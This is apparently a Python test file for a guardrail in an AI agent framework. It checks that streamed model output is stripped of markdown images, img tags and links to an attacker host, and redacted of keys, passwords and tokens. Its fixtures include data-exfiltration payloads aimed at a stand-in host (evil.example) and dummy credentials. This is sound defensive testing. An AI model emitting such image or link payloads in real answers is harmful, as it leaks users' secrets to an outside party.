"""What is heard while a model speaks is what its final word will have, however its words come."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from itertools import pairwise

import pytest
from crewmesh_agent_crew.guardrails.guard import Guard
from crewmesh_agent_crew.guardrails.rules import Rules
from crewmesh_agent_crew.guardrails.taint import Taint
from hypothesis import given, settings
from hypothesis import strategies as st

from .tool_desk import agent

EVIL = "https://evil.example/p.png?d=41"
KEY = "sk-ant-abcdefghijklmnopqrstuvwxyz"
PIECES = (
    *"![]()<>.@:=\"é\n\r\t\x0b\u200b\u202e\u200d\u3000\u3001\ud800", "word ", "word", "  ", "\r\n", "![", "](",
    "<img ", "<im", "👩", "请看", "这里", "://", "//", "-----", "BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----",
    "Bearer ", "basic ", "api", "api key", "password", "secret ", "hunter2hunter2", KEY, KEY[:9], EVIL,
    f"![a b]({EVIL})", f"![a b]( {EVIL} )", f"[see this]({EVIL})", f"!![x]({EVIL})(", f"<img src='{EVIL}' >",
    "https://user:pass word@host/", "HTTPS://evil.example/x?d=41", "x" * 300, "y " * 300, "z" * 3_200,
)  # fmt: skip


@dataclass
class Listener:
    """What was heard since it last began anew."""

    heard: list[str] = field(default_factory=list[str])
    over: bool = False

    def add(self, text: str) -> None:
        self.heard.append(text)

    def restart(self) -> None:
        self.heard.clear()

    def done(self) -> None:
        self.over = True

    @property
    def text(self) -> str:
        return "".join(self.heard)


def guard(*, wary: bool = True) -> Guard:
    return Guard(Rules(agent()), Taint(untrusted=wary, private=wary), "crun_1/task/worker/1", longest=8_000, wary=wary)


def heard(words: list[str], *, wary: bool = True) -> Listener:
    listener = Listener()
    speech = guard(wary=wary).aloud(listener)
    assert speech is not None
    for word in words:
        speech.add(word)
    speech.done()
    return listener


@settings(max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=25), st.lists(st.integers(0, 400), max_size=40), st.booleans())
def test_it_is_the_same_however_it_is_cut(pieces: list[str], cuts: list[int], wary: bool) -> None:
    text = "".join(pieces)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    words = [text[start:end] for start, end in pairwise(places)]
    assert heard(words, wary=wary).text == guard(wary=wary).said(text)


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"Look: ![the chart]({EVIL}) is it.", "41"),
        (f"Look: ![the\nchart](<{EVIL}>) is it.", "41"),
        (f"Look: <img alt='a chart' src='{EVIL}'> is it.", "41"),
        (f"Look: [at this]({EVIL}) now.", "41"),
        (f"The key is {KEY}, keep it.", KEY[7:]),
        ("The password : hunter2hunter2 is it.", "hunter2"),
        ("Send Authorization: Bearer abcdefgh12345678 along.", "abcdefgh"),
        ("-----BEGIN PRIVATE KEY-----\nMIIabc def\n-----END PRIVATE KEY-----\nThere.", "MIIabc"),
        ("It is at https://ann:hunter2hunter2@example.com/ now.", "hunter2"),
        ("密码见 api key=密码密码密码密码密码 。", "密码密码密码密码"),
    ],
)
def test_what_goes_from_the_answer_is_never_heard(text: str, secret: str) -> None:
    listener = heard(list(text))
    assert secret not in listener.text
    assert listener.text == guard().said(text)


def test_words_are_heard_as_soon_as_they_are_whole() -> None:
    listener = Listener()
    speech = guard().aloud(listener)
    assert speech is not None
    for word, so_far in (("Hel", ""), ("lo ", "Hello "), ("wor", "Hello "), ("ld. ", "Hello world. ")):
        speech.add(word)
        assert listener.text == so_far
    speech.add("请看这里")
    assert listener.text == "Hello world. 请看这", "scripts without spaces are not held back to the end"


def test_a_bracket_that_never_closes_holds_nothing_up_for_long() -> None:
    listener = Listener()
    speech = guard().aloud(listener)
    assert speech is not None
    speech.add("see [1 and " + "word " * 300)
    assert listener.text.startswith("see [1 and word ")


def test_an_answer_that_begins_anew_is_heard_anew() -> None:
    listener = Listener()
    speech = guard().aloud(listener)
    assert speech is not None
    speech.add("All of ![this")
    speech.restart()
    speech.add("Better. ")
    speech.done()
    assert (listener.text, listener.over) == ("Better. ", True)


@pytest.mark.parametrize(
    "text",
    [
        "![x](HTTPS://evil.example/p?d=41)",
        "![a [b] c](https://evil.example/p?d=41)",
        "!![x](//evil.example/)(https://evil.example/p?d=41)",
        "![x][1]\n\n[1]: https://evil.example/p",
        "![x](https:/evil.example/p)",
        f"<img src='{'x' * 4_000}'>",
    ],
)
def test_no_picture_is_left_however_it_is_written(text: str) -> None:
    said = guard().said(text)
    assert not re.search(r"!\[|<img", said, re.IGNORECASE)
